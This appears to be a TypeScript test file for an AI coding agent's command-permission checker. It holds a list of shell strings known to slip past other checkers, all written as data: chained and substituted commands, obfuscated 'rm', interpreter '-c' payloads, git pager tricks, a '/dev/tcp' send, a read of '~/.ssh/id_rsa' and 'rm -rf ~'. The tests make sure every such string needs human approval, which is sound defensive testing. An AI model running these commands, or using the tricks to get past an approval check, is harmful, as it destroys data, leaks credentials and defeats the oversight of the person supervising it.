// Strings that got past other programs' judgement of commands. We judge none of them by its words: each is rehearsed, or asked about.
import { describe, expect, it } from 'vitest';
import { ok } from '../../../src/error/error-value.ts';
import { alwaysRule } from '../../../src/policy/always-rule.ts';
import { commandIs, sweepsAway } from '../../../src/policy/match-command.ts';
import type { Ran } from '../../../src/sandbox/rehearsal.ts';
import type { Sandbox } from '../../../src/sandbox/sandbox.ts';
import { bytesOf } from '../../../src/workspace/hash.ts';
import type { Path } from '../../../src/workspace/path.ts';
import { agentRooms } from '../../support/agent-rooms.ts';

const STRINGS: readonly (readonly [string, string])[] = [
  ['case 98', 'ls; rm x'],
  ['case 98', 'ls && rm x'],
  ['case 98', 'ls || rm x'],
  ['case 98', 'ls | tee x'],
  ['case 98', 'ls |& tee x'],
  ['case 98', 'ls & rm x'],
  ['case 99', 'ls\nrm x'],
  ['case 99', 'git log\n\n\ntouch x'],
  ['case 100', 'l\\\ns; r\\\nm x'],
  ['case 100', 'git status \\\n; rm x'],
  ['case 102', '$(echo touch x)'],
  ['case 102', '`echo touch x`'],
  ['case 102', 'ls $(rm x)'],
  ['case 103', 'ls$IFS-la'],
  ['case 103', 'x=rm; $x y'],
  ['case 103', "x='$(touch y)'; echo \x24{x@P}"],
  ['case 103', '{touch,x}'],
  ['case 103', '/b?n/rm x'],
  ['case 103', "$'\\x72m' x"],
  ['case 103', 'echo $((a[$(touch x)]))'],
  ['case 104', 'r"m" x'],
  ['case 104', '\\rm x'],
  ['case 104', "l''s; r''m x"],
  ['case 104', 'git --output\\=x log'],
  ['case 105', 'ls\rrm x'],
  ['case 105', 'ls\u000brm x'],
  ['case 105', 'ls\u00a0x'],
  ['case 105', 'rm \u2013rf x'],
  ['case 106', 'cat <<EOF\n$(touch x)\nEOF'],
  ['case 106', "bash <<< 'touch x'"],
  ['case 106', 'cat <<"E\nO"F\nx\nE\nO\nrm x'],
  ['case 107', '# harmless comment\nrm x'],
  ['case 109', 'PAGER=x git log'],
  ['case 109', 'LD_PRELOAD=./x.so ls'],
  ['case 109', 'GIT_SSH_COMMAND="touch x" git fetch'],
  ['case 109', 'X=1'],
  ['case 110', 'env rm x'],
  ['case 110', 'nice timeout 5 xargs rm x'],
  ['case 110', 'command busybox rm x'],
  ['case 110', 'setsid nohup watch rm x'],
  ['case 110', 'env env env env env env env env env rm x'],
  ['case 111', "sh -c 'touch x'"],
  ['case 111', "python -c \"open('x','w')\""],
  ['case 111', 'node -e "1"'],
  ['case 111', "perl -e 'unlink q(x)'"],
  ['case 111', 'awk \'BEGIN{system("touch x")}\''],
  ['case 111', 'npx -c touch'],
  ['case 111', 'tar cf x --checkpoint=1 --checkpoint-action=exec=touch .'],
  ['case 111', 'vim -c ":!touch x"'],
  ['case 111', 'man -P "touch x" ls'],
  ['case 112', 'git -c core.pager="touch x" log'],
  ['case 112', 'git --exec-path=. status'],
  ['case 112', 'git diff --ext-diff'],
  ['case 112', 'git log --output=x'],
  ['case 113', 'find . -exec touch x ;'],
  ['case 113', 'find . -delete'],
  ['case 113', 'find . -fprintf x y'],
  ['case 114', 'rg --pre sh x'],
  ['case 114', 'rg --hostname-bin ./x y'],
  ['case 116', 'sort -o x y'],
  ['case 116', 'uniq in out'],
  ['case 116', 'tree -o x'],
  ['case 117', 'ls > x'],
  ['case 117', 'ls >> .git/config'],
  ['case 117', 'ls >| x'],
  ['case 117', 'ls &> x'],
  ['case 117', 'echo x >/dev/tcp/203.0.113.1/80'],
  ['case 118', 'cd / && touch x'],
  ['case 118', 'pushd ..; rm x'],
  ['case 120', '=touch x'],
  ['case 120', '[[ x =~ $(touch x) ]]'],
  ['case 123', 'head .e*v'],
  ['case 123', 'cat "$HOME/.ssh/id_rsa"'],
  ['case 137', 'rm -rf ~'],
  ['case 137', 'rm -rf "$UNSET/"*'],
  ['case 139', 'rg x *'],
];

/** Runs nothing: it writes down what it was asked for, and pretends that every rehearsal changed a file. */
const recording = (tier: 'rehearsed' | 'witnessed') => {
  const real: string[] = [];
  const after = { kind: 'file', bytes: bytesOf(new TextEncoder().encode('x')), mode: 0o644 } as const;
  const ran: Ran = {
    exit: { kind: 'exited', code: 0 },
    output: bytesOf(new TextEncoder().encode('out\n')),
    printed: 4,
    milliseconds: 1,
    changes: [{ path: 'x' as Path, before: null, after }],
    byProducts: [],
    notes: [],
  };
  const sandbox: Sandbox = {
    capability: async () => (tier === 'rehearsed' ? { tier } : { tier, why: 'there is none', fix: 'see doctor' }),
    rehearse: async () => ok(ran),
    witness: async ({ command }) => {
      real.push(String(command));
      return ok(ran);
    },
    close: async () => undefined,
  };
  return { sandbox, real };
};

const calls = STRINGS.map(([, command]) => ({ name: 'run_command', arguments: { command } }));
/** Rules a person may well have, for the harmless beginnings of those strings. */
const rules = ['ls', 'ls *', 'git log', 'git status', 'cat *', 'echo *', 'rg *', 'find *'].map((command, index) => ({
  verdict: 'allow' as const,
  of: 'run_command',
  input: { command },
  source: { kind: 'person' as const, file: 'rules.yaml', line: index + 1 },
}));

describe(`${STRINGS.length} strings that other programs took for harmless`, () => {
  it('without a sandbox: every one is asked about in its exact words, whatever the rules and --yes say, and none runs unasked', async () => {
    const { sandbox, real } = recording('witnessed');
    const rooms = await agentRooms({}, [{ calls }, { text: 'done' }], { rules, yes: true, sandbox: () => sandbox });
    const shown: string[] = [];
    await rooms.go(({ proposal, judgement }) => {
      expect(judgement).toMatchObject({ verdict: 'ask', mustAsk: true });
      const { reach } = proposal.preview;
      shown.push(reach?.kind === 'command' ? reach.command : '');
      return false;
    });
    expect(shown).toEqual(STRINGS.map(([, command]) => command));
    expect(real).toEqual([]);
    expect(STRINGS.length).toBeGreaterThanOrEqual(60);
  });

  it('with a sandbox: every one that changes a file is asked about, and none runs for real', async () => {
    const { sandbox, real } = recording('rehearsed');
    const rooms = await agentRooms({}, [{ calls }, { text: 'done' }], { rules, sandbox: () => sandbox });
    let asked = 0;
    await rooms.go(({ proposal, judgement }) => {
      asked += 1;
      expect(judgement.verdict).toBe('ask');
      expect(proposal.preview.changes).toHaveLength(1);
      return false;
    });
    expect(asked).toBe(STRINGS.length);
    expect(real).toEqual([]);
  });
});

describe('a rule about a command', () => {
  it.each(STRINGS)('%s: "always" is not to be had for %j', async (number, command) => {
    const { sandbox } = recording('rehearsed');
    const rooms = await agentRooms({}, [{ calls: [{ name: 'run_command', arguments: { command } }] }, { text: '' }], {
      sandbox: () => sandbox,
    });
    await rooms.go(({ proposal, judgement }) => {
      const rule = alwaysRule({ proposal, judgement, workspace: '/w', source: { kind: 'flag', name: 'test' } });
      // Plain words of a program that runs nothing else: the rule is for exactly these words and this file.
      const plain = ['case 112', 'case 114', 'case 116'].includes(number) && rule.ok;
      if (plain) expect(rule).toMatchObject({ value: { input: { command }, writes: ['x'] } });
      else expect(rule).toMatchObject({ ok: false, error: { code: 'DENIED' } });
      return false;
    });
  });

  it('case 119: ends at a word boundary', () => {
    expect(commandIs('git log', 'git logout')).toBe(false);
    expect(commandIs('npm test', 'npm test-evil')).toBe(false);
    expect(commandIs('npm test', 'npm test -- -u')).toBe(false);
    expect(commandIs('npm test', 'npm test')).toBe(true);
  });

  it('case 98: a wildcard stands for plain words only, never for another command', () => {
    for (const [, command] of STRINGS.slice(0, 24)) expect(commandIs('ls *', command), command).toBe(false);
    expect(commandIs('ls *', 'ls -la src')).toBe(true);
  });
});

describe('removing a home, a root or everything here', () => {
  it.each([
    'rm -rf ~',
    'rm -rf /',
    'rm -rf .',
    'rm -rf ..',
    'rm -r -f -- *',
    'rm -rf "$UNSET/"*',
    'rm -fr \x24{HOME}/',
    'echo $(rm -rf ~/)',
    "/bin/rm --recursive './'",
    'ls; \\rm -Rf ./*',
    'sudo rm -rf \\\n/',
  ])('case 137: %j asks once more, also with --yes and a rule', async (command) => {
    expect(sweepsAway(command)).toBe(true);
    const { sandbox } = recording('rehearsed');
    const rooms = await agentRooms({}, [{ calls: [{ name: 'run_command', arguments: { command } }] }, { text: '' }], {
      yes: true,
      rules: [{ verdict: 'allow', of: 'run_command', writes: ['**'], source: { kind: 'flag', name: 'x' } }],
      sandbox: () => sandbox,
    });
    let asked = 0;
    await rooms.go(({ judgement }) => {
      asked += 1;
      expect(judgement).toMatchObject({ mustAsk: true, rule: { name: 'sweeping deletions ask' } });
      return false;
    });
    expect(asked).toBe(1);
  });

  it.each(['rm -rf dist', 'rm a.txt', 'rm -rf ./build /tmp/x', 'echo rm', 'git rm -r src', 'rm -rf $OUT/dist'])(
    '%j is a deletion like any other',
    (command) => expect(sweepsAway(command)).toBe(false),
  );
});
